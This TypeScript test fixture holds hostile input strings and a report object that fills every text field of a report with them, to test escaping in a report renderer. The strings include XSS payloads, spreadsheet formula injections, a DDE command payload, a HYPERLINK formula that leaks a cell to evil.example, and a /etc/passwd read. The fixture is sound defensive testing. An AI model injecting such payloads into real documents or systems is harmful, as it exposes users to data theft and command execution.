import type { ReportDocument } from "../../src/ReportDocument.ts"

/** What people write who mean harm, or who write in other scripts. */
export const hostileTexts: ReadonlyArray<string> = [
  `<script>alert(1)</script>`,
  `"><img src=x onerror=alert(1)>`,
  `' onmouseover='alert(1)`,
  `</style><script>alert(2)</script>`,
  `</svg><iframe src="https://evil.example">`,
  `&lt;b&gt; &amp; &#x41; ]]> <!-- -->`,
  `=1+1`,
  `=HYPERLINK("https://evil.example?x="&A1,"click")`,
  `+cmd|' /C calc'!A0`,
  `-2+3`,
  `@SUM(A1:A9)`,
  `\t=1+1`,
  `\r\n=1+1`,
  `a;=1+1`,
  `  =1+1`,
  `\uff1d1+1`,
  `#read("/etc/passwd") #sys $x$ \\ \`code\` @ref <label>`,
  `[a](javascript:alert(1)) ![p](https://evil.example/p.png)`,
  `مرحبا بالعالم \u202eabc`,
  `שלום`,
  `👩‍👩‍👧‍👦 🇩🇪 👍🏽`,
  `a\u0000b\u0007c`,
  `\ud83d alone \udc00`,
  `_x0041_ _x000D_`,
  `{{constructor}} \${x} %s`,
  `\ufeffbom\u2028line`
]

const huge = "x".repeat(10_000_000)

/** Every hostile text, and 10 MB of one, everywhere in a document where users' texts go. */
export const hostileReport: ReportDocument = {
  title: hostileTexts.join(" | "),
  subtitle: huge,
  project: `</title><script>alert(3)</script>`,
  timezone: "Mars/Olympus",
  locale: "xx-\u0000-<b>",
  from: `<b>from</b>`,
  to: "never",
  asOf: "2026-04-01T04:00:00Z",
  notices: [{ kind: "warning", text: `${hostileTexts[0]} ${huge}` }],
  blocks: [
    { type: "markdown", text: hostileTexts.join("\n\n") },
    { type: "markdown", text: huge },
    {
      type: "metrics",
      metrics: hostileTexts.map((title) => ({
        title,
        metric: {
          form: "number",
          values: { kind: "number", unit: title },
          value: -1.5,
          compare: { value: 0, label: title },
          sparkline: [1, null, 1e300, -1e300]
        }
      }))
    },
    ...hostileTexts
      .filter((_, at) => at % 7 === 0)
      .map((text) => ({
        type: "chart" as const,
        title: text,
        description: text,
        chart: {
          form: "bar" as const,
          axis: "category" as const,
          labels: hostileTexts,
          values: { kind: "currency" as const, unit: text },
          series: [{ name: text, data: hostileTexts.map((_, at) => at - 3) }]
        }
      })),
    {
      type: "table",
      title: huge,
      description: huge,
      table: {
        columns: [
          { name: `=1+1`, kind: "text" },
          { name: `<b>n</b>`, kind: "integer", unit: `"><script>` },
          { name: "d", kind: "date" },
          { name: "t", kind: "datetime" }
        ],
        rows: [
          ...hostileTexts.map((text) => [text, -5, text, text]),
          [huge, -1.5, "2026-02-30", "2026-03-29T01:30:00Z"]
        ]
      }
    },
    { type: "failed", title: hostileTexts[0] ?? "", detail: hostileTexts.join(" ") }
  ]
}
